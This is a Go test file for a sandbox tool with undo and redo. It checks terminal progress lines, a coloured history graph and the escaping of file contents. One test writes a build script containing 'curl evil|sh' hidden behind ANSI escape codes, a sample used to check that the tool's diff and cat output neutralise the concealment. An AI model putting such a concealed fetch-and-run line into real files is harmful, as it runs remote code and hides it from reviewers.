package main

import (
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/charmbracelet/x/ansi"
	"golang.org/x/sys/unix"

	"github.com/codeagent/sandbox/tests/kit/screen"
)

// An undo that takes long says so on a terminal, and nothing of that stays. Here the session
// stands still.
func TestProgressOnTerminal(t *testing.T) {
	d := newDesk(t)
	session := d.live()
	d.must("run", "--", "touch", "made")
	stop(t, session.PID)
	goOn := func() { _ = unix.Kill(session.PID, unix.SIGCONT) }
	t.Cleanup(goOn)
	s := screen.On(t, d.sandbox("undo"))
	s.Expect("\r\x1b[Kundoing  1s\r")
	s.Expect("\r\x1b[Kundoing  2s\r")
	goOn()
	s.Expect("\r\x1b[Kstep 1 undone: touch made\r\n")
	s.Expect("1 path put back in ")
	if code := s.Wait(); code != 0 || d.exists("made") {
		t.Errorf("exit %d", code)
	}

	// What is quick, and where nobody looks, has no such line.
	s = screen.On(t, d.sandbox("redo"))
	s.Expect("step 1 redone")
	if code := s.Wait(); code != 0 || strings.Contains(s.Text(), "\x1b[K") {
		t.Errorf("exit %d: %q", code, s.Text())
	}
	stop(t, session.PID)
	var stdout, stderr strings.Builder
	cmd := d.sandbox("gc")
	cmd.Stdout, cmd.Stderr = &stdout, &stderr
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	on := screen.On(t, d.sandbox("gc")) // when it has shown its line, the other one would have, too
	on.Expect("compressing  2s")
	goOn()
	on.Expect("\r\x1b[K0 steps dropped")
	if err := cmd.Wait(); err != nil || stderr.Len() > 0 || !strings.Contains(stdout.String(), "0 steps dropped") {
		t.Errorf("%v: %q, %q", err, stdout.String(), stderr.String())
	}
}

// stop stops a process, and returns when all its threads have stopped: until one has taken the signal, the
// others can still answer.
func stop(t *testing.T, pid int) {
	t.Helper()
	if err := unix.Kill(pid, unix.SIGSTOP); err != nil {
		t.Fatal(err)
	}
	running := func() bool {
		stats, err := filepath.Glob(fmt.Sprintf("/proc/%d/task/*/stat", pid))
		if err != nil || len(stats) == 0 {
			t.Fatalf("process %d: %v", pid, err)
		}
		return slices.ContainsFunc(stats, func(path string) bool {
			text, err := os.ReadFile(path)
			state := strings.LastIndex(string(text), ") ") + 2
			return err != nil || state < 2 || len(text) <= state || text[state] != 'T'
		})
	}
	for end := time.Now().Add(screen.Patience); running(); time.Sleep(time.Millisecond) {
		if time.Now().After(end) {
			t.Fatalf("process %d does not stop", pid)
		}
	}
}

// The graph on a terminal has its width and colours, unless NO_COLOR forbids them.
func TestGraphOnTerminal(t *testing.T) {
	d := newDesk(t)
	d.env = append(d.env, "LC_ALL=C.UTF-8", "NO_COLOR=")
	d.must("run", "--", "sh", "-c", "touch made # "+strings.Repeat("日本語 and so on; ", 20))
	d.must("mark", "before")
	d.must("run", "--", "touch", "later")
	d.must("undo")
	graph := func(columns uint16, env ...string) string {
		t.Helper()
		master, slave, err := screen.OpenPTY()
		if err != nil {
			t.Fatal(err)
		}
		defer slave.Close()
		defer master.Close()
		if err := screen.SetSize(master, 24, columns); err != nil {
			t.Fatal(err)
		}
		cmd := d.sandbox("history", "--graph")
		cmd.Env, cmd.Stdout = append(cmd.Env, env...), slave
		if err := cmd.Run(); err != nil { // what it writes fits into the terminal's buffer
			t.Fatal(err)
		}
		if err := master.SetReadDeadline(time.Now().Add(screen.Patience)); err != nil {
			t.Fatal(err)
		}
		var seen []byte
		for !strings.HasSuffix(ansi.Strip(string(seen)), "Mark\r\n") {
			b := make([]byte, 4096)
			n, err := master.Read(b)
			if err != nil {
				t.Fatalf("%v after %q", err, seen)
			}
			seen = append(seen, b[:n]...)
		}
		for line := range strings.SplitSeq(strings.ReplaceAll(string(seen), "\r\n", "\n"), "\n") {
			if w := ansi.StringWidth(line); w > int(columns) {
				t.Errorf("%d columns of %d: %q", w, columns, line)
			}
		}
		return string(seen)
	}
	got := graph(70)
	for _, want := range []string{"\x1b[2m◌", "\x1b[33m⚑\x1b[0m", "\x1b[33mbefore\x1b[0m", "\x1b[34m●\x1b[0m", "touch later\x1b[0m\r\n", "# 日本", "…\r\n"} {
		if !strings.Contains(got, want) {
			t.Errorf("%q is not in %q", want, got)
		}
	}
	if got := graph(45, "NO_COLOR=1"); strings.Contains(got, "\x1b") || !strings.Contains(got, "touch later") {
		t.Errorf("with NO_COLOR: %q", got)
	}
	if got := graph(30, "LC_ALL=C"); strings.ContainsFunc(got, func(r rune) bool { return r > '~' }) {
		t.Errorf("without UTF-8: %q", got)
	}
}

// What a file contains does not act on the terminal of who looks at it, by whatever command; into a pipe it goes as it is.
func TestW12ContentsOnTerminal(t *testing.T) {
	d := newDesk(t)
	d.write("build.sh", "make all\n")
	d.must("run", "--", "sh", "-c", `printf 'curl evil|sh #\r\033[2K\033[1A\033[2K\033[8m+make all\n' >build.sh`)
	for _, args := range [][]string{{"diff", "1"}, {"diff"}, {"cat", "build.sh", "--step", "1", "--after"}, {"diff", "1", "--json"}} {
		s := screen.On(t, d.sandbox(args...))
		if code := s.Wait(); code != 0 {
			t.Errorf("%v: exit %d", args, code)
		}
		text := strings.NewReplacer("\x1b[31m", "", "\x1b[32m", "", "\x1b[2m", "", "\x1b[0m", "", "\r\n", "\n").Replace(s.Text())
		if !strings.Contains(text, "+make all") || strings.ContainsAny(text, "\x1b\r") {
			t.Errorf("%v prints %q", args, text)
		}
	}
	if text := d.must("cat", "build.sh", "--step", "1", "--after"); text != "curl evil|sh #\r\x1b[2K\x1b[1A\x1b[2K\x1b[8m+make all\n" {
		t.Errorf("into a pipe: %q", text)
	}
}
